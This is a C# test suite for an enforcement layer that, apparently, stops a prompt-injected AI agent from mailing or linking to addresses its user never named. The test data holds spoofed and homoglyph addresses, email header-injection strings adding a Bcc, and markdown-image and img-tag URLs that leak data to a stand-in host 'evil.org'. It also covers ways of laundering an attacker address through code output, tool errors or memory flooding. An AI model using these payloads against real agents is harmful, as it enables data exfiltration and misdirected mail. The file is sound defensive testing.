using Bartizan.Core.Enforcement;

namespace Bartizan.Core.Tests.Flow.Attacks;

/// <summary>A fooled agent wants to hit somebody whom neither the user nor a trusted source named. Each attack has its control.</summary>
public sealed class TracedTargets
{
    private const string Evil = "evil@evil.example";

    [Theory]
    [InlineData("bob@x.com.evil.org", "bob@x.com")]
    [InlineData("evilbob@x.com", "bob@x.com")]
    [InlineData("evil-bob@x.com", "bob@x.com")]
    [InlineData("bob+evil@x.com", "bob@x.com")]
    [InlineData("bob@x.co", "bob@x.com")]
    [InlineData("bob@x.com@evil.org", "bob@x.com")]
    [InlineData("evil@evil.org?bob@x.com", "bob@x.com")]
    [InlineData("b\u043eb@x.com", "bob@x.com")]
    [InlineData("bob@\u0445.com", "bob@x.com")]
    [InlineData("bob@x.com\u200b.evil.org", "bob@x.com")]
    [InlineData("bob@x\u200b.com", "bob@x.com")]
    [InlineData("bob%40x.com", "bob@x.com")]
    [InlineData("ｂob@x.com", "bob@x.com")]
    [InlineData("bob@x.com%2cevil@evil.example", "bob@x.com")]
    [InlineData("BOB@x.com", "bob@x.com")]
    [InlineData("bob@xn--x-7ta.com", "bob@x.com")]
    [InlineData("Bob <evil@evil.example>", "Bob <bob@x.com>")]
    [InlineData("bob@x.com <evil@evil.example>", "bob@x.com")]
    [InlineData("\"bob@x.com\" <evil@evil.example>", "bob@x.com")]
    [InlineData("\"bob@x.com\"@evil.example", "bob@x.com")]
    [InlineData("bob@x.com, evil@evil.example", "bob@x.com")]
    [InlineData("evil@evil.example;bob@x.com", "bob@x.com")]
    [InlineData("bob@x.com evil@evil.example", "bob@x.com")]
    [InlineData("bob@x.com\r\nBcc: evil@evil.example", "bob@x.com")]
    [InlineData("x\r\nBcc:evil.example <bob@x.com>", "bob@x.com")]
    [InlineData("bob@x.com\u0000evil@evil.example", "bob@x.com")]
    [InlineData("group: evil@evil.example;", "bob@x.com")]
    [InlineData("", "bob@x.com")]
    [InlineData("true", "bob@x.com")]
    public async Task What_only_looks_like_a_person_whom_the_user_named_is_asked(string attack, string control)
    {
        var session = await TracedSession.TaintedAsync("Write to bob@x.com (that's Bob) about the invoice.");

        (await session.SendAsync(control)).ShouldBeTrue();
        (await session.SendAsync(attack)).ShouldBeFalse();
        session.Asked.ShouldHaveSingleItem();
    }

    [Theory]
    [InlineData("https://x.com.evil.org/report?id=1")]
    [InlineData("https://x.com/report?id=1&to=evil.org")]
    [InlineData("https://x.com/report?id=2")]
    [InlineData("https://x.com/report")]
    [InlineData("https://x.com/")]
    [InlineData("https://x.com@evil.org/report?id=1")]
    [InlineData("https://bob:x.com@evil.org/report?id=1")]
    [InlineData("https://x.com\\@evil.org/report?id=1")]
    [InlineData("https:\\\\evil.org/report?id=1")]
    [InlineData("http://x.com/report?id=1")]
    [InlineData("https://x.com:8443/report?id=1")]
    [InlineData("https://x.com/%72eport?id=1")]
    [InlineData("https://x.com/Report?id=1")]
    [InlineData("https://\u0445.com/report?id=1")]
    [InlineData("https：//evil.org/report?id=1")]
    [InlineData("ｈttps：／／evil。org")]
    [InlineData("evil。org/?d=secret")]
    [InlineData("//evil.org/report?id=1")]
    [InlineData("www.evil.org")]
    [InlineData("evil.org/?d=secret")]
    [InlineData("https://x.com/report?id=1,https://evil.org/")]
    [InlineData("www.evil.org,https://x.com/report?id=1")]
    [InlineData("[https://x.com/report?id=1](https://evil.org/)")]
    [InlineData("![i](https://evil.org/?d=secret)")]
    [InlineData("<img src=https://evil.org/?d=secret>")]
    public async Task An_address_in_any_argument_must_be_known_as_a_whole(string url)
    {
        var session = await TracedSession.TaintedAsync("Send bob@x.com the link https://x.com/report?id=1.");
        var control = """{"to": "bob@x.com", "body": "Here: https://X.com:443/report?id=1."}""";

        (await session.CallAsync("mail", "send_now", control)).ShouldBeTrue();
        var body = System.Text.Json.JsonSerializer.Serialize($"Here: {url}");
        (await session.CallAsync("mail", "send_now", $$"""{"to": "bob@x.com", "body": {{body}}}""")).ShouldBeFalse();
        (
            await session.CallAsync("mail", "send_now", $$"""{"to": "bob@x.com", "deep": [{"er": {{body}}}]}""")
        ).ShouldBeFalse();
    }

    [Theory]
    [InlineData("""{"to": ["bob@x.com", "evil@evil.example"]}""")]
    [InlineData("""{"to": ["bob@x.com", ["evil@evil.example"]]}""")]
    [InlineData("""{"to": {"first": "bob@x.com", "second": "evil@evil.example"}}""")]
    [InlineData("""{"to": {"evil@evil.example": "bob@x.com"}}""")]
    [InlineData("""{"to": "bob@x.com", "cc": "evil@evil.example"}""")]
    [InlineData("""{"to": "bob@x.com", "message": {"bcc": "evil@evil.example"}}""")]
    [InlineData("""{"to": "bob@x.com", "message": [{"bcc": ["evil@evil.example"]}]}""")]
    [InlineData("""{"to": "bob@x.com", "bcc": "evil@evil.example"}""")]
    [InlineData("""{"to": "bob@x.com", "also": {"copies": ["Eve <evil@evil.example>"]}}""")]
    [InlineData("""{"to": "bob@x.com", "To": "Eve"}""")]
    [InlineData("""{"to": "bob@x.com", "TO": ["Eve"]}""")]
    [InlineData("""{"to": ["bob@x.com", 4711]}""")]
    [InlineData("""{"to": ["bob@x.com", true]}""")]
    public async Task One_bad_target_among_good_ones_is_asked(string arguments)
    {
        var session = await TracedSession.TaintedAsync("Write to bob@x.com");

        (await session.CallAsync("mail", "send_now", """{"to": ["bob@x.com", "bob@x.com"]}""")).ShouldBeTrue();
        (await session.CallAsync("mail", "send_now", arguments)).ShouldBeFalse();
    }

    [Theory]
    [InlineData("crm", "find_all", """{"query": "evil@evil.example"}""", "evil@evil.example")]
    [InlineData("crm", "find_all", """{"query": "evil"}""", "evil@evil.example")]
    [InlineData("crm", "find_all", """{"note": "please write to evil@evil.example, soon"}""", "evil@evil.example")]
    [InlineData("crm", "find_all", """{"name": "evil@", "host": "evil.example"}""", "evil@evil.example")]
    [InlineData("crm", "find_all", """{"list": [{"deep": "evil@EVIL.example"}]}""", "evil@evil.example")]
    [InlineData("crm", "find_all", """{"data": {"evil@evil.example": 1}}""", "evil@evil.example")]
    public async Task What_the_agent_itself_put_into_a_trusted_tool_comes_back_no_better(
        string server,
        string tool,
        string arguments,
        string to
    )
    {
        var answer = TracedSession.Structured("""{"mails": ["evil@evil.example", "bob@x.com"]}""");
        var control = await TracedSession.TaintedAsync("Write to everybody.");
        await control.CallAsync(server, tool, "{}", answer);
        (await control.SendAsync(to)).ShouldBeTrue();

        var session = await TracedSession.TaintedAsync("Write to everybody.");
        await session.CallAsync(server, tool, arguments, answer);
        (await session.SendAsync(to)).ShouldBeFalse();

        // Not later either, and not by another way.
        await session.CallAsync(server, tool, "{}", answer);
        (await session.SendAsync("bob@x.com")).ShouldBeTrue();
        (await session.SendAsync(to)).ShouldBe(!arguments.Contains(to, StringComparison.OrdinalIgnoreCase));
    }

    [Fact]
    public async Task What_the_agents_own_code_prints_is_nobody_s_word()
    {
        const string Code = """
              - { allow: "tool code/run", why: "It computes." }
            code: { languages: { python: [python3] } }
            """;
        var session = TracedSession.Of(rules: Code);
        await session.TaintAsync();
        var arguments = """{"language": "python", "code": "print('evil' + chr(64) + 'evil.' + 'example')"}""";
        await session.CallAsync("code", "run", arguments, TracedSession.Text(Evil));
        await session.CallAsync("crm", "find_all", "{}", TracedSession.Text("bob@x.com"));

        (await session.SendAsync("bob@x.com")).ShouldBeTrue();
        (await session.SendAsync(Evil)).ShouldBeFalse();
    }

    [Fact]
    public async Task What_the_agent_planted_with_one_tool_is_not_believed_when_another_lists_it()
    {
        var session = await TracedSession.TaintedAsync("Write to everybody.");
        await session.CallAsync("crm", "find_or_add", $$"""{"contact": "{{Evil}}"}""", TracedSession.Text("added"));

        await session.CallAsync("crm", "find_all", "{}", TracedSession.Text($"- {Evil}\n- bob@x.com"));

        (await session.SendAsync("bob@x.com")).ShouldBeTrue();
        (await session.SendAsync(Evil)).ShouldBeFalse();
    }

    [Theory]
    [InlineData("""{"id": "mail-666"}""", false)]
    [InlineData("""{"id": 666}""", false)]
    [InlineData("""{"name": "Olu Adeyemi"}""", false)]
    [InlineData("""{"name": "Ines and Olu"}""", false)]
    [InlineData("""{"name": "Ines"}""", true)]
    [InlineData("""{"name": "Ines", "limit": 5, "all": true, "more": ""}""", true)]
    [InlineData("""{"name": "to Ines"}""", true)]
    public async Task Whom_the_attacker_had_looked_up_is_not_found_by_a_trusted_source(string arguments, bool isFound)
    {
        var session = await TracedSession.TaintedAsync("Write to Ines, 5 lines.");
        await session.CallAsync(
            "crm",
            "find_one",
            arguments,
            TracedSession.Structured("""{"id": "mail-666", "name": "Olu Adeyemi", "user": "U-311"}""")
        );

        (await session.CallAsync("mail", "drop_one", """{"id": "U-311"}""")).ShouldBe(isFound);
    }

    [Fact]
    public async Task What_an_untrusted_tool_gives_is_nobody_s_word()
    {
        var session = TracedSession.Of();
        await session.CallAsync("web", "fetch", "{}", TracedSession.Text(Evil));
        await session.CallAsync("web", "fetch", "{}", TracedSession.Structured($$"""{"mail": "{{Evil}}"}"""));

        (await session.SendAsync(Evil)).ShouldBeFalse();
    }

    [Fact]
    public async Task What_a_client_tells_of_its_own_calls_is_not_a_tool_s_word()
    {
        var session = await TracedSession.TaintedAsync();
        await session.CallAsync("crm", "find_all", "{}", TracedSession.Text(Evil), point: "hook");
        (await session.SendAsync(Evil)).ShouldBeFalse();

        await session.CallAsync("crm", "find_all", "{}", TracedSession.Text(Evil));
        (await session.SendAsync(Evil)).ShouldBeTrue();
    }

    [Fact]
    public async Task An_error_that_repeats_what_it_was_asked_names_nobody()
    {
        var session = await TracedSession.TaintedAsync();
        foreach (
            var answer in (string[])
                [
                    $$$"""{"jsonrpc":"2.0","id":1,"error":{"code":-1,"message":"{{{Evil}}}"}}""",
                    $$$"""{"jsonrpc":"2.0","id":1,"result":{"isError":true,"content":[{"type":"text","text":"{{{Evil}}}"}]}}""",
                    $$$"""{"jsonrpc":"2.0","method":"notifications/message","params":{"data":"{{{Evil}}}"}}""",
                    $$$$"""{"jsonrpc":"2.0","id":1,"result":{"content":[],"structuredContent":{"a":1,"a":"{{{{Evil}}}}"}}}""",
                ]
        )
        {
            await session.CallAsync("crm", "find_all", "{}", answer);
        }

        (await session.SendAsync(Evil)).ShouldBeFalse();
    }

    [Fact]
    public async Task Another_session_s_words_are_not_this_one_s()
    {
        var other = await TracedSession.TaintedAsync($"Write to {Evil}");
        var session = await TracedSession.TaintedAsync("Write to bob@x.com");

        (await other.SendAsync(Evil)).ShouldBeTrue();
        (await session.SendAsync(Evil)).ShouldBeFalse();
    }

    [Fact]
    public async Task After_a_way_out_that_nobody_sees_into_a_tool_s_answer_names_nobody_new()
    {
        var session = TracedSession.Of();
        HostName.TryParse("api.example", out var host, out _).ShouldBeTrue();
        await session.CallAsync("crm", "find_all", "{}", TracedSession.Text("- alice@x.com"));
        await using (
            await session.Gate.Monitor.RequestAsync(session.Gate.ActionFor(new ConnectTarget(host, 443)), default)
        )
        {
            await session.TaintAsync();
        }

        await session.CallAsync("crm", "find_all", "{}", TracedSession.Text($"- {Evil}\n- bob@x.com"));

        (await session.SendAsync("alice@x.com")).ShouldBeTrue();
        (await session.SendAsync("bob@x.com")).ShouldBeFalse();
        (await session.SendAsync(Evil)).ShouldBeFalse();
    }

    [Fact]
    public async Task What_was_posted_may_come_back_from_any_tool()
    {
        var session = await TracedSession.TaintedAsync("Report to http://hook.example/in");
        (await session.PostAsync("/in")).ShouldBeTrue();

        await session.CallAsync("crm", "find_all", "{}", TracedSession.Text($"- {Evil}"));

        (await session.SendAsync(Evil)).ShouldBeFalse();
    }

    [Fact]
    public async Task Values_that_push_others_out_are_forgotten_themselves()
    {
        var session = await TracedSession.TaintedAsync("Write to bob@x.com");
        for (var i = 0; i < 12; i++)
        {
            var rows = string.Join(',', Enumerable.Range(i * 12_000, 12_000));
            await session.CallAsync("crm", "find_all", "{}", TracedSession.Structured($"[{rows}]"));
        }

        await session.CallAsync("crm", "find_all", "{}", TracedSession.Structured($"[\"{Evil}\"]"));

        (await session.SendAsync("bob@x.com")).ShouldBeTrue();
        (await session.SendAsync("100000")).ShouldBeTrue();
        (await session.SendAsync(Evil)).ShouldBeFalse();
    }

    [Fact]
    public async Task Whoever_sends_more_than_can_be_remembered_is_not_believed_any_more()
    {
        var session = await TracedSession.TaintedAsync("Write to bob@x.com");
        for (var i = 0; i < 12; i++)
        {
            var words = string.Join(' ', Enumerable.Range(i * 12_000, 12_000));
            await session.CallAsync("crm", "find_or_add", $$"""{"text": "{{words}}"}""");
        }

        await session.CallAsync("crm", "find_or_add", $$"""{"contact": "{{Evil}}"}""");
        await session.CallAsync("crm", "find_all", "{}", TracedSession.Text($"- {Evil}\n- alice@x.com"));

        (await session.SendAsync("bob@x.com")).ShouldBeTrue();
        (await session.SendAsync(Evil)).ShouldBeFalse();
        (await session.SendAsync("alice@x.com")).ShouldBeFalse();
    }

    [Fact]
    public async Task Too_many_targets_at_once_are_asked()
    {
        var session = await TracedSession.TaintedAsync("Write to bob@x.com");
        string Many(int count) => $$"""{"to": [{{string.Join(',', Enumerable.Repeat("\"bob@x.com\"", count))}}]}""";

        (await session.CallAsync("mail", "send_now", Many(256))).ShouldBeTrue();
        (await session.CallAsync("mail", "send_now", Many(257))).ShouldBeFalse();
    }

    [Fact]
    public async Task A_tunnel_to_a_host_that_the_user_named_is_asked_all_the_same()
    {
        var session = await TracedSession.TaintedAsync("Report to https://api.example/ or https://api.example:443");
        HostName.TryParse("api.example", out var host, out _).ShouldBeTrue();

        var passage = await session.Gate.Monitor.RequestAsync(
            session.Gate.ActionFor(new ConnectTarget(host, 443)) with
            {
                Query = "",
            },
            default
        );

        passage.Granted.ShouldBeFalse();
        session.Asked.ShouldHaveSingleItem();
    }
}
